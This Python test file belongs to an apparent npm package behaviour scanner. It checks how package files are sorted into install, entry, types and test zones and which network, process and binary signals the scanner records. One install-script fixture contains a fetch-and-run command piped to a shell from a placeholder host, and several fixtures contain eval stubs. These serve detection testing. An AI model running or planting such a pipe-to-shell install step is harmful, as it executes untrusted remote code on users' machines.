from __future__ import annotations

import json

import pytest

from scanner.behaviour import analyse as analyse_module
from scanner.behaviour import profile as profile_module
from scanner.behaviour.model import Capability, Zone
from scanner.behaviour.profile import profile_archive
from scanner.tarball.archive import read_package
from tests.tarball.builders import package

ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 200


def _profile(name: str, version: str, files: dict[str, str | bytes], **manifest: object):  # type: ignore[no-untyped-def]
    return profile_archive(
        read_package(package(name, version, files, **manifest), f"{name}@{version}")
    )


def test_install_script_files_and_what_they_require_are_install_zone() -> None:
    profile = _profile(
        "tool",
        "1.0.0",
        {
            "install.js": "const d = require('./lib/download'); d();",
            "lib/download.js": "const https = require('https'); exports.get = () => https.get(u);",
            "lib/main.js": "module.exports = require('./util');",
            "lib/util.js": "module.exports = 1;",
            "lib/main.d.ts": "export declare const x: number;",
            "test/main.test.js": "require('child_process');",
            "bin/tool": "#!/usr/bin/env node\nrequire('../lib/main');",
        },
        main="lib/main.js",
        bin={"tool": "bin/tool"},
        scripts={"postinstall": "node install.js"},
    )
    assert profile.zones["install.js"] is Zone.INSTALL
    assert profile.zones["lib/download.js"] is Zone.INSTALL
    assert profile.zones["lib/util.js"] is Zone.ENTRY
    assert profile.zones["bin/tool"] is Zone.ENTRY
    assert profile.zones["lib/main.d.ts"] is Zone.TYPES
    assert profile.zones["test/main.test.js"] is Zone.TEST
    assert profile.zones["package.json"] is Zone.OTHER
    assert profile.capabilities(Zone.INSTALL) == {Capability.NETWORK}
    assert Capability.PROCESS_SPAWN not in profile.capabilities(Zone.OTHER)
    assert Capability.PROCESS_SPAWN in profile.capabilities(Zone.TEST)
    assert profile.files["lib/main.d.ts"].signals == ()
    assert profile.files["install.js"].local_requires == ("lib/download.js",)


def test_inline_install_code_is_a_file_of_its_own() -> None:
    profile = _profile(
        "polyfills",
        "3.0.0",
        {"index.js": "module.exports = 1;", "postinstall.js": "console.log(process.env.CI);"},
        scripts={"postinstall": "node -e \"try{require('./postinstall')}catch(e){}\""},
    )
    inline = "package.json#scripts.postinstall"
    assert profile.zones[inline] is Zone.INSTALL
    assert profile.files[inline].local_requires == ("postinstall.js",)
    assert profile.zones["postinstall.js"] is Zone.INSTALL
    assert {s.detail for s in profile.signals(Zone.INSTALL)} == {"CI"}


def test_platform_package_binary() -> None:
    profile = _profile(
        "@esbuild/linux-x64", "0.21.5", {"bin/esbuild": ELF}, os=["linux"], cpu=["x64"]
    )
    assert profile.manifest.is_platform_package
    assert profile.binaries == ("bin/esbuild",)
    [signal] = profile.files["bin/esbuild"].signals
    assert (signal.capability, signal.detail) == (Capability.NATIVE_BINARY, "ELF")


def test_types_only_package_has_no_signals() -> None:
    profile = _profile(
        "@types/thing",
        "1.0.0",
        {"index.d.ts": "declare function fetch(u: string): void; // require('child_process')"},
        main="",
        types="index.d.ts",
    )
    assert profile.zones["index.d.ts"] is Zone.TYPES
    assert profile.signals() == []
    assert profile.manifest.entry_points == ()


def test_shell_scripts_run_at_install_are_read_by_pattern() -> None:
    profile = _profile(
        "native",
        "1.0.0",
        {"setup.sh": "#!/bin/sh\ncurl -s https://example.test/x | sh\n"},
        scripts={"preinstall": "sh ./setup.sh"},
    )
    assert profile.zones["setup.sh"] is Zone.INSTALL
    assert {s.detail for s in profile.signals(Zone.INSTALL)} >= {"curl", "shell"}
    assert not profile.files["setup.sh"].parsed


def test_an_unreadable_manifest_is_noted() -> None:
    from tests.tarball.builders import tar_bytes

    archive = read_package(tar_bytes({"package.json": "{nope", "index.js": "eval(x)"}), "x")
    profile = profile_archive(archive)
    assert any("package.json" in note for note in profile.notes)
    assert profile.zones["index.js"] is Zone.OTHER


def test_a_file_unchanged_between_versions_is_analysed_once(
    monkeypatch: pytest.MonkeyPatch, single_analysis: None
) -> None:
    parsed: list[bytes] = []
    real = analyse_module.parse

    def counting(data: bytes, grammar: object) -> object:
        parsed.append(data)
        return real(data, grammar)  # type: ignore[arg-type]

    monkeypatch.setattr(analyse_module, "parse", counting)
    shared = "module.exports = require('https'); // shared 51c2"
    _profile("p", "1.0.0", {"index.js": shared, "a.js": "eval(x); // v1 51c2"})
    _profile("p", "1.0.1", {"index.js": shared, "a.js": "eval(y); // v2 51c2"})
    assert parsed.count(shared.encode()) == 1
    assert len(parsed) == 3


def test_results_are_the_same_in_a_second_process(monkeypatch: pytest.MonkeyPatch) -> None:
    files: dict[str, str | bytes] = {
        f"lib/f{i}.js": f"require('https'); eval(a{i}); // fork {i}" for i in range(6)
    }
    monkeypatch.setattr(profile_module, "PARALLEL_WORK", 1)
    monkeypatch.setattr("scanner.tarball.parallel.can_fork", lambda: True)
    forked = _profile("forked", "1.0.0", files)
    analyse_module._memo.clear()
    monkeypatch.setattr("scanner.tarball.parallel.can_fork", lambda: False)
    local = _profile("forked", "1.0.0", files)
    assert forked.files == local.files
    assert json.dumps(sorted(forked.zones)) == json.dumps(sorted(local.zones))


def test_entry_zone_reaches_into_bundled_dependencies() -> None:
    profile = _profile(
        "bundler",
        "1.0.0",
        {
            "index.js": "module.exports = require('helper');",
            "node_modules/helper/package.json": '{"name": "helper", "main": "lib/h.js"}',
            "node_modules/helper/lib/h.js": "require('https');",
            "node_modules/other/index.js": "require('dns');",
        },
        bundleDependencies=["helper", "other"],
    )
    assert profile.zones["node_modules/helper/lib/h.js"] is Zone.ENTRY
    assert profile.zones["node_modules/other/index.js"] is Zone.OTHER
